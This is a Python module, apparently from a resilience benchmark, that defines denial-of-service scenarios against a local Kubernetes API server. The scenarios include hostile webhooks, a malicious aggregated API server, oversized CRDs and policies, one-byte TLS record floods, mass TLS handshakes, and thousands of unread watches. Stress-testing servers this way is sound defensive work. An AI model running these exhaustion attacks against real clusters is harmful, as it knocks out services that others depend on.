"""Kinds of attack by those whom the server itself asks: webhooks, added API servers, definitions in many versions, policies that are
looked at once more; and by those who begin something, over and over: connections, records, watches.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import socket
import ssl
import time
from typing import Any

from benchmarks.attacks.attacker import Attacker
from benchmarks.attacks.bodies import (
    ADMISSION,
    CREATES,
    CUSTOM,
    DEFINITIONS,
    MANY,
    MAPS,
    MERGE,
    OPEN,
    PODS,
    SPACE,
    admission,
    config_map,
    definition,
    pod,
    policy,
)
from benchmarks.attacks.hostile_backend import KINDS, Answer, HostileBackend, endless, say
from benchmarks.attacks.scene import many_maps, served
from benchmarks.attacks.table import ATTACKS, attack

SERVICES = "/apis/apiregistration.k8s.io/v1/apiservices"
DISCOVERY = "application/json;g=apidiscovery.k8s.io;v=v2;as=APIGroupDiscoveryList"


# -- webhooks that convert --------------------------------------------------------------
def converting(name: str, answer: Answer, *, count: int = 20, size: int = 1_000, times: int = 5) -> None:
    """Enter a webhook that is asked for the second version of so many objects of so many bytes."""

    async def do(who: Attacker) -> list[Any]:
        made, path = definition("turns", OPEN), f"{CUSTOM}/turns"
        one = made["spec"]["versions"][0]
        made["spec"]["versions"] = [one, {**one, "name": "v2", "storage": False}]
        statuses: list[Any] = [await who.ask("POST", DEFINITIONS, made)]
        await served(who, path)
        head = {"apiVersion": "attack.example/v1", "kind": made["spec"]["names"]["kind"]}
        for number in range(count):
            await who.ask("POST", path, {**head, "metadata": {"name": f"t{number}"}, "x": "y" * size})
        async with HostileBackend(answer) as backend:
            webhook = {"conversionReviewVersions": ["v1"], "clientConfig": backend.client_config()}
            change = {"spec": {"conversion": {"strategy": "Webhook", "webhook": webhook}}}
            statuses.append(await who.ask("PATCH", f"{DEFINITIONS}/turns.attack.example", change, **MERGE))
            await asyncio.sleep(1)
            second = path.replace("/v1/", "/v2/")
            statuses += [await who.many(times, "GET", second), await who.many(times, "GET", f"{second}/t0")]
            await who.unread(5, f"{second}?watch=1", seconds=1)
        statuses.append(await who.ask("DELETE", f"{DEFINITIONS}/turns.attack.example"))
        await asyncio.sleep(1)
        return statuses

    ATTACKS[f"conversion: {name}"] = do


def converted(**more: Any) -> Answer:
    """Does as it is told, and adds something to the first object."""

    async def answer(_: str, body: bytes, writer: asyncio.StreamWriter) -> None:
        asked = json.loads(body)["request"]
        objects = [{**obj, "apiVersion": asked["desiredAPIVersion"]} for obj in asked["objects"]]
        objects[0] |= more
        said = {"uid": asked["uid"], "result": {"status": "Success"}, "convertedObjects": objects}
        await say(writer, {"apiVersion": "apiextensions.k8s.io/v1", "kind": "ConversionReview", "response": said})

    return answer


for told, answer in KINDS.items():
    converting(told, answer, times=100 if told == "nothing at all" else 5)
converting("an object of 200,000 keys", converted(x={f"k{i}": [i] for i in range(200_000)}))
converting("200 objects of 100 KB", converted(), count=200, size=100_000)


# -- webhooks of admission ----------------------------------------------------------------
def admitting(name: str, answer: Answer, kind: str = "Mutating", *, times: int = 5, size: int = 1) -> None:
    """Enter a webhook of that kind that is asked about so many ConfigMaps, each with so many bytes."""

    async def do(who: Attacker) -> list[Any]:
        async with HostileBackend(answer) as backend:
            hook = {
                "name": "h.attack.example", "sideEffects": "None", "admissionReviewVersions": ["v1"], "failurePolicy": "Fail",
                "rules": [CREATES], "clientConfig": backend.client_config(),
            }  # fmt: skip
            path = f"{ADMISSION}/{kind.lower()}webhookconfigurations"
            made = admission(f"{kind}WebhookConfiguration", "attack", webhooks=[hook])
            statuses: list[Any] = [await who.ask("POST", path, made)]
            await asyncio.sleep(0.5)
            statuses.append(await who.many(times, "POST", f"{MAPS}?dryRun=All", config_map(data={"a": "b" * size})))
            return [*statuses, await who.ask("DELETE", f"{path}/attack")]

    ATTACKS[f"webhook: {name}"] = do


for told, answer in KINDS.items():
    if told != "nothing at all":
        admitting(told, answer)


# -- added API servers ----------------------------------------------------------------------
def adding(name: str, answer: Answer) -> None:
    """Enter an added server that is asked for its objects, and for what it has."""

    async def do(who: Attacker) -> list[Any]:
        async with HostileBackend(answer) as backend:
            spec = {"type": "ExternalName", "externalName": "localhost"}
            service = {"apiVersion": "v1", "kind": "Service", "metadata": {"name": "evil"}, "spec": spec}
            statuses: list[Any] = [await who.ask("POST", f"{SPACE}/services", service)]
            added = {
                "apiVersion": "apiregistration.k8s.io/v1", "kind": "APIService", "metadata": {"name": "v1.evil.example"},
                "spec": {"group": "evil.example", "version": "v1", "groupPriorityMinimum": 1000, "versionPriority": 10,
                         "caBundle": backend.ca, "service": {"namespace": "default", "name": "evil", "port": backend.port}},
            }  # fmt: skip
            statuses.append(await who.ask("POST", SERVICES, added))
            await asyncio.sleep(4)
            await who.unread(10, "/apis/evil.example/v1/things", seconds=2)
            statuses.append(await who.many(10, "GET", "/apis/evil.example/v1/things"))
            statuses.append(await who.many(10, "GET", "/apis", Accept=DISCOVERY))
            statuses += [await who.many(4, "GET", "/openapi/v3"), await who.many(4, "GET", "/openapi/v2")]
            await who.ask("DELETE", f"{SERVICES}/v1.evil.example")
            await who.ask("DELETE", f"{SPACE}/services/evil")
            return statuses

    ATTACKS[f"added server: {name}"] = do


def well_known_but(otherwise: Answer) -> Answer:
    async def answer(path: str, body: bytes, writer: asyncio.StreamWriter) -> None:
        if path != "/apis/evil.example/v1":
            return await otherwise(path, body, writer)
        thing = {"name": "things", "namespaced": False, "kind": "Thing", "verbs": ["list"]}
        await say(writer, {"kind": "APIResourceList", "groupVersion": "evil.example/v1", "resources": [thing]})

    return answer


async def vast(path: str, _: bytes, writer: asyncio.StreamWriter) -> None:
    if path.startswith("/openapi/v2"):
        paths = {
            f"/apis/evil.example/v1/t{i}": {"get": {"responses": {"200": {"description": "OK"}}}} for i in range(10_000)
        }
        definitions = {
            f"d{i}": {"properties": {"a": {"$ref": f"#/definitions/d{i * 7 % 10_000}"}}} for i in range(10_000)
        }
        return await say(writer, {"swagger": "2.0", "paths": paths, "definitions": definitions})
    if path == "/openapi/v3":
        return await say(
            writer, {"paths": {f"apis/evil.example/v{i}": {"serverRelativeURL": "/x"} for i in range(20_000)}}
        )
    things = [{"name": f"t{i}", "namespaced": True, "kind": f"T{i}", "verbs": ["list"]} for i in range(30_000)]
    await say(writer, {"kind": "APIResourceList", "groupVersion": "evil.example/v1", "resources": things})


for told, answer in KINDS.items():
    adding(told, well_known_but(answer))
adding("an endless list, from the beginning", endless)
adding("30,000 resources, and documents of megabytes", vast)


# -- definitions, policies, accounts ------------------------------------------------------------
@attack("CRD: 20 versions, and objects of 100,000 fields")
async def many_versions(who: Attacker) -> list[Any]:
    made, path = definition("manifolds", OPEN), f"{CUSTOM}/manifolds"
    one = made["spec"]["versions"][0]
    made["spec"]["versions"] = [{**one, "name": f"v{i}", "storage": i == 1} for i in range(1, 21)]
    statuses: list[Any] = [await who.ask("POST", DEFINITIONS, made)]
    await served(who, path)
    head = {
        "apiVersion": "attack.example/v1",
        "kind": made["spec"]["names"]["kind"],
        "x": dict.fromkeys(map(str, range(100_000)), ""),
    }
    for number in range(5):
        statuses.append(await who.ask("POST", path, {**head, "metadata": {"name": f"a{number}"}}))
    await who.unread(3, f"{path.replace('/v1/', '/v7/')}?watch=1", seconds=1)
    for number in range(5):
        statuses.append(await who.ask("PATCH", f"{path}/a{number}", {"y": 1}, **MERGE))
    statuses.append(await who.many(4, "GET", path.replace("/v1/", "/v9/")))
    statuses.append(await who.ask("DELETE", f"{DEFINITIONS}/manifolds.attack.example"))
    await asyncio.sleep(2)
    return statuses


@attack("CRD: changed ten times, beside 40 MB of its objects")
async def changing(who: Attacker) -> list[Any]:
    made, path = definition("heavies", OPEN), f"{CUSTOM}/heavies"
    statuses: list[Any] = [await who.ask("POST", DEFINITIONS, made)]
    await served(who, path)
    head = {
        "apiVersion": "attack.example/v1",
        "kind": made["spec"]["names"]["kind"],
        "x": dict.fromkeys(map(str, range(80_000)), "v"),
    }
    for number in range(40):
        await who.ask("POST", path, {**head, "metadata": {"name": f"a{number}"}})
    for number in range(10):
        change = {"spec": {"names": {"shortNames": [f"h{number}"]}}}
        statuses.append(await who.ask("PATCH", f"{DEFINITIONS}/heavies.attack.example", change, **MERGE))
        statuses.append(await who.ask("GET", f"{path}/a1"))
    statuses.append(await who.ask("DELETE", f"{DEFINITIONS}/heavies.attack.example"))
    await asyncio.sleep(4)
    return statuses


@attack("policies: four of 2,000 expressions, checked against four kinds")
async def checked_policies(who: Attacker) -> set[int]:
    kinds, statuses = f"{ADMISSION}/validatingadmissionpolicies", set()
    rule = {**CREATES, "apiGroups": ["", "apps"], "resources": ["pods", "services", "deployments", "configmaps"]}
    for number in range(4):
        spec = policy("true")["spec"]
        spec["matchConstraints"]["resourceRules"] = [rule]
        spec["validations"] = [{"expression": f"object.metadata.labels.exists(k, k == 'b{i}')"} for i in range(2_000)]
        statuses.add(await who.ask("POST", kinds, admission("ValidatingAdmissionPolicy", f"t{number}", spec=spec)))
    await asyncio.sleep(8)
    for number in range(4):
        statuses.add(await who.ask("DELETE", f"{kinds}/t{number}"))
    return statuses


@attack("account: 40,000 secrets of one, and ten pods")
async def rich_account(who: Attacker) -> set[int]:
    secrets = [{"name": f"s{i}"} for i in range(40_000)]
    made = {"apiVersion": "v1", "kind": "ServiceAccount", "metadata": {"name": "rich"}, "imagePullSecrets": secrets}
    statuses = {await who.ask("POST", f"{SPACE}/serviceaccounts", made)}
    statuses |= await who.many(10, "POST", PODS, pod(serviceAccountName="rich"))
    await asyncio.sleep(4)
    return statuses | {await who.ask("DELETE", f"{PODS}?gracePeriodSeconds=0")}


# -- beginnings --------------------------------------------------------------------------------
def spoken(who: Attacker, head: bytes, records: int) -> tuple[socket.socket, bytes]:
    """A connection over TLS, and what would go over it: a head, and as many records of one byte each."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    client = who.tls.wrap_bio(incoming, outgoing, server_hostname="127.0.0.1")
    connected = socket.create_connection(("127.0.0.1", who.port), timeout=20)
    while True:
        try:
            client.do_handshake()
            break
        except ssl.SSLWantReadError:
            connected.sendall(outgoing.read())
            incoming.write(connected.recv(1 << 16))
    connected.sendall(outgoing.read())
    client.write(head)
    for _ in range(records):
        client.write(b"x")
    return connected, outgoing.read()


def short_records(name: str, connections: int, records: int, head: bytes) -> None:
    async def do(who: Attacker) -> None:
        prepared = [await asyncio.to_thread(spoken, who, head, records) for _ in range(connections)]

        def send(connected: socket.socket, data: bytes) -> None:
            with contextlib.suppress(OSError):
                connected.sendall(data)

        await asyncio.gather(*(asyncio.to_thread(send, *each) for each in prepared))
        await asyncio.sleep(2)
        for connected, _ in prepared:
            connected.close()

    ATTACKS[name] = do


BODY = b"POST /api/v1/namespaces HTTP/1.1\r\nHost: x\r\nContent-Length: 3000000\r\n\r\n"
short_records("TLS: 100,000 records of one byte", 1, 100_000, BODY)
short_records("TLS: 100,000 records of one byte in a head without end", 1, 100_000, b"GET / HTTP/1.1\r\nA: ")
short_records("TLS: 4,000 records of one byte on each of 60 connections", 60, 4_000, BODY)


@attack("TLS: 900 hellos at once")
async def hellos(who: Attacker) -> None:
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    client = who.tls.wrap_bio(incoming, outgoing, server_hostname="127.0.0.1")
    with contextlib.suppress(ssl.SSLWantReadError):
        client.do_handshake()
    hello = outgoing.read()

    def greet() -> None:
        connections = [socket.create_connection(("127.0.0.1", who.port)) for _ in range(900)]
        for connection in connections:
            connection.sendall(hello)
        time.sleep(3)
        for connection in connections:
            connection.close()

    await asyncio.to_thread(greet)


@attack("watches: 1,000 at once with all that is there, read by nobody")
async def watches_begin(who: Attacker) -> None:
    await many_maps(who)
    begin = "watch=1&allowWatchBookmarks=true&sendInitialEvents=true&resourceVersionMatch=NotOlderThan"
    await who.unread(1_000, f"{MANY}?{begin}", seconds=3)


@attack("watches: 1,000 who read, and 200 changes")
async def watches_read(who: Attacker) -> set[int]:
    await many_maps(who)
    readers = []
    for _ in range(20):
        for reader, writer in await asyncio.gather(*(who.connect() for _ in range(50))):
            writer.write(who.written("GET", f"{MANY}?watch=1&timeoutSeconds=30"))
            readers.append(reader)

    async def read(reader: asyncio.StreamReader) -> None:
        with contextlib.suppress(ConnectionError):
            while await reader.read(1 << 16):
                pass

    tasks = [asyncio.ensure_future(read(reader)) for reader in readers]
    await asyncio.sleep(1)
    statuses = {await who.ask("PATCH", f"{MANY}/m1", {"data": {"n": str(i)}}, **MERGE) for i in range(200)}
    for task in tasks:
        task.cancel()
    return statuses
